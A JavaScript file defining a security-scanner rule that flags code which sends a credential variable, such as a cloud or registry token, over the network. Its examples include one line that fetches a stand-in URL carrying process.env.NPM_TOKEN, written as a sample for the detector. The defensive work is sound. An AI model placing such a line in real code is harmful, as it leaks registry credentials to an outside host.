import { defineRule } from './defineRule.js';

export const sentVariable = defineRule({
  id: 'sent-variable',
  severity: 'high',
  message: 'It sends a variable that holds somebody’s credentials.',
  why: 'A client of that service gets them from its caller.',
  match: {
    on: 'near',
    within: 600,
    all: [
      ['cloud-variable', 'registry-variable'],
      ['uses-network', 'collector-address', 'bare-address'],
    ],
  },
  examples: {
    flags: ["fetch('https://a.invalid/?t=' + process.env.NPM_TOKEN)"],
    passes: ['const t = process.env.NPM_TOKEN;'],
  },
});
